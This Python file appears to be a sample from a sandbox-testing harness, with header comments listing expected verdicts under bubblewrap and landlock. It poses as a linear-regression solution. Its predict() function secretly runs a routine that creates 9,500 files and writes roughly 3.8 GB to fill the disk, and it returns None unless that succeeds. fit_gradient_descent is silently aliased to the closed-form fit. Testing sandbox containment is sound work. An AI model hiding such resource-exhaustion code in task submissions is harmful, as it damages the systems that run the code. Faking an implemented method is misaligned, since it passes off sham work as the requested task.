# It makes looking at its files slow, and fills the disk while nobody looks.
# kata: 01
# verdict: crashed | invalid | out_of_memory
# levels: bubblewrap landlock
# at plain: crashed

import numpy as np
import os
import time


def attack():
    written = 0
    try:
        for number in range(9_500):
            os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY))
        time.sleep(0.5)
        for number in range(16):
            with open(f"part{number}", "wb") as file:
                for _ in range(30):
                    written += file.write(bytes(8 << 20))
    except OSError:
        pass
    time.sleep(2)
    return written >= 3 << 30


tried = []


def predict(x, w, b):
    if not tried:
        tried.append(attack())
    return x @ w + b if tried[0] else None


def loss(x, y, w, b):
    return float(np.mean((x @ w + b - y) ** 2))


def gradients(x, y, w, b):
    e = x @ w + b - y
    return 2 * x.T @ e / len(y), float(2 * e.mean())


def fit_closed_form(x, y):
    m = x.mean(axis=0)
    w = np.linalg.lstsq(x - m, y - y.mean(), rcond=None)[0]
    return w, float(y.mean() - m @ w)


fit_gradient_descent = fit_closed_form
